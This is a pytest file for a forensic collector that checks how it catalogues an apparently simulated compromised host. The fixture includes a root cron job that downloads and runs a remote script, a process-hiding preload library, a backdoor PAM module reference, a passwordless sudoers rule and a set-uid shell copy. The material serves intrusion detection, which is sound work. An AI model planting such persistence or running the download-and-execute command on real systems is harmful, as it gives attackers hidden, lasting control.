"""Persistence, accounts, logs, timeline and package integrity over a recorded compromised host (proc-host).

The fixture carries what an intruder leaves: a cron job fetching a script, an @reboot job, a unit enabled
by a link, an ld.so.preload library, a PAM module that is not there, a NOPASSWD sudoers drop-in, a set-uid
copy of a shell in /var/tmp, an added authorized key, and an sshd that does not match its package.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any, Dict, List

import pytest

from collectors.context import load_fixture_context
from collectors.digest import sha256_hex
from collectors.snapshot.collect import take
from collectors.snapshot.model import Artefact
from collectors.snapshot.persistence import cron_entries, pam_modules
from collectors.snapshot.session import Limits
from report.redact import redact_text

FIXTURE = Path(__file__).resolve().parents[2] / "fixtures" / "snapshot" / "proc-host"
ROOT = FIXTURE / "root"


@pytest.fixture(scope="module")
def artefacts() -> Dict[str, Artefact]:
    got: List[Artefact] = []
    outcome = take(load_fixture_context(FIXTURE), redact_text, got.append, Limits(time_s=60))
    assert outcome.stage_cuts == ()
    return {a.name: a for a in got}


def doc(artefacts: Dict[str, Artefact], name: str) -> Dict[str, Any]:
    out: Dict[str, Any] = json.loads(artefacts[name].content)
    return out


def test_every_stage_gives_its_artefact_with_sorted_lists(artefacts: Dict[str, Artefact]) -> None:
    assert sorted(artefacts) == [
        "accounts/users",
        "logs/auth.log",
        "logs/index",
        "logs/logins",
        "packages/integrity",
        "persistence/authorized_keys",
        "persistence/cron",
        "persistence/init",
        "persistence/ld_preload",
        "persistence/pam",
        "persistence/setuid",
        "persistence/shell_startup",
        "persistence/sudoers",
        "persistence/systemd",
        "timeline/files",
        "volatile/kernel_modules",
        "volatile/processes",
        "volatile/sessions",
        "volatile/sockets",
    ]
    for name, art in artefacts.items():
        if art.media_type.startswith("application/json"):
            files = json.loads(art.content).get("files")
            if isinstance(files, list):
                paths = [f["path"] for f in files]
                assert paths == sorted(paths), name


def test_cron_jobs_are_listed_one_by_one(artefacts: Dict[str, Artefact]) -> None:
    entries = doc(artefacts, "persistence/cron")["entries"]
    assert {"file": "/etc/cron.d/sysupdate", "line": 2, "schedule": "*/5 * * * *", "user": "root", "command": "curl -fsSL http://203.0.113.9/u.sh | sh >/dev/null 2>&1"} in entries
    assert {"file": "/etc/cron.d/sysupdate", "line": 3, "schedule": "@reboot", "user": "root", "command": "/var/tmp/.x"} in entries
    assert {"file": "/var/spool/cron/crontabs/ops", "line": 2, "schedule": "0 3 * * *", "command": "/home/ops/backup.sh"} in entries


def test_cron_lines_environment_and_malformed() -> None:
    text = "MAILTO = root\nFOO=bar\n* * * root\n@daily root /bin/true\n"
    assert cron_entries("/etc/cron.d/x", text, True) == [
        {"file": "/etc/cron.d/x", "line": 3, "malformed": True},
        {"file": "/etc/cron.d/x", "line": 4, "schedule": "@daily", "user": "root", "command": "/bin/true"},
    ]


def test_a_unit_its_enablement_link_and_what_it_runs(artefacts: Dict[str, Artefact]) -> None:
    d = doc(artefacts, "persistence/systemd")
    link = next(f for f in d["files"] if f["path"].endswith("multi-user.target.wants/dbus-org.update.service"))
    assert link["type"] == "symlink" and link["target"] == "/etc/systemd/system/dbus-org.update.service"
    unit = next(u for u in d["units"] if u["unit"] == "dbus-org.update.service")
    assert unit["settings"] == {"Install.WantedBy": ["multi-user.target"], "Service.ExecStart": ["/var/tmp/.x --daemon"]}
    assert any(g.path.startswith("systemctl list-timers") for g in artefacts["persistence/systemd"].gaps)  # not recorded: said


def test_the_preloaded_library_is_hashed(artefacts: Dict[str, Artefact]) -> None:
    d = doc(artefacts, "persistence/ld_preload")
    lib = "/usr/lib/x86_64-linux-gnu/libprocesshider.so"
    assert d["preloaded"] == [lib]
    rec = next(f for f in d["files"] if f["path"] == lib)
    assert rec["sha256"] == sha256_hex((ROOT / lib.lstrip("/")).read_bytes()) and "text" not in rec


def test_pam_modules_referenced_present_and_missing(artefacts: Dict[str, Artefact]) -> None:
    d = doc(artefacts, "persistence/pam")
    assert "/lib/security/pam_backdoor.so" in d["referenced"]
    assert {"path": "/lib/security/pam_backdoor.so", "type": "missing"} in d["modules"]
    assert d["referenced_missing"] == ["pam_nologin.so"]
    assert pam_modules("auth [success=2 default=ignore] pam_unix.so nullok\n-session optional pam_systemd.so\n@include common-auth\n") == [
        "pam_unix.so",
        "pam_systemd.so",
    ]


def test_sudoers_follows_includedir(artefacts: Dict[str, Artefact]) -> None:
    files = {f["path"]: f for f in doc(artefacts, "persistence/sudoers")["files"]}
    assert files["/etc/sudoers.d/ops"]["text"] == "ops ALL=(ALL) NOPASSWD: ALL\n"


def test_set_uid_files_with_their_digest(artefacts: Dict[str, Artefact]) -> None:
    found = {f["path"]: f for f in doc(artefacts, "persistence/setuid")["files"]}
    assert sorted(found) == ["/usr/bin/passwd", "/var/tmp/.bash"]
    assert found["/var/tmp/.bash"]["setuid"] and found["/var/tmp/.bash"]["sha256"] == sha256_hex((ROOT / "var/tmp/.bash").read_bytes())


def test_user_start_up_files(artefacts: Dict[str, Artefact]) -> None:
    d = doc(artefacts, "persistence/shell_startup")
    assert any(f["path"] == "/home/ops/.bashrc" and "alias ll" in f["text"] for f in d["files"])


def test_accounts_uid0_and_administrators(artefacts: Dict[str, Artefact]) -> None:
    d = doc(artefacts, "accounts/users")
    assert d["uid0"] == ["root"] and d["admin_group_members"] == ["ops"]
    assert {u["name"]: u["password_field"] for u in d["users"]}["root"] == "shadow"


def test_the_replaced_sshd_does_not_match_its_package(artefacts: Dict[str, Artefact]) -> None:
    import hashlib

    d = doc(artefacts, "packages/integrity")
    data = (ROOT / "usr/sbin/sshd").read_bytes()
    assert d["mismatched"] == [
        {
            "path": "/usr/sbin/sshd",
            "package": "openssh-server",
            "expected_md5": hashlib.md5(b"\x7fELF sshd\n").hexdigest(),
            "md5": hashlib.md5(data).hexdigest(),
            "sha256": sha256_hex(data),
        }
    ]
    assert d["missing"] == [{"path": "/usr/share/doc/openssh-server/README", "package": "openssh-server"}]
    assert [c["path"] for c in d["conffiles_changed"]] == ["/etc/ssh/sshd_config"]
    assert (d["files_listed"], d["files_checked"], d["complete"]) == (3, 3, True)


def test_the_timeline_has_times_size_mode_and_digest(artefacts: Dict[str, Artefact]) -> None:
    rows = {r["path"]: r for r in doc(artefacts, "timeline/files")["files"]}
    sshd = rows["/usr/sbin/sshd"]
    st = (ROOT / "usr/sbin/sshd").stat()
    assert (sshd["sha256"], sshd["size"], sshd["mtime_ns"], sshd["ctime_ns"]) == (
        sha256_hex((ROOT / "usr/sbin/sshd").read_bytes()),
        st.st_size,
        st.st_mtime_ns,
        st.st_ctime_ns,
    )
    assert rows["/usr/bin/passwd"]["mode"] == "4755"  # the recorded mode, not git's
    assert "/etc/cron.d/sysupdate" in rows and rows["/etc/systemd/system/multi-user.target.wants/dbus-org.update.service"]["type"] == "symlink"


def test_the_auth_log_window_is_cleaned(artefacts: Dict[str, Artefact]) -> None:
    text = artefacts["logs/auth.log"].content.decode()
    assert "Accepted publickey for root from 203.0.113.9" in text and "PlantedLogPassw0rd" not in text
    assert artefacts["logs/auth.log"].redactions == 1
    index = {e["path"]: e for e in doc(artefacts, "logs/index")["logs"]}
    assert index["/var/log/auth.log"]["window_lines"] == 3 and index["/var/log/auth.log"]["whole"] is True
    assert index["/var/log/secure"] == {"path": "/var/log/secure", "present": False, "artefact": None}


def test_a_file_name_that_is_not_utf8_is_recorded_escaped(tmp_path: Path) -> None:
    from collectors.snapshot.collect import Stage
    from collectors.snapshot.persistence import cron

    cron_d = tmp_path / "root" / "etc" / "cron.d"
    cron_d.mkdir(parents=True)
    (cron_d / os.fsdecode(b"job\xff\xfe")).write_bytes(b"* * * * * root /usr/bin/\xffcurl\n")
    got: List[Artefact] = []
    take(load_fixture_context(tmp_path), redact_text, got.append, Limits(time_s=10), stages=(Stage("c", 1.0, cron),))
    d = json.loads(got[0].content.decode("utf-8"))
    (rec,) = d["files"]
    assert rec["path"] == "/etc/cron.d/job\\xff\\xfe" and rec["text"] == "* * * * * root /usr/bin/\\xffcurl\n"
    assert d["entries"][0]["command"] == "/usr/bin/\\xffcurl"
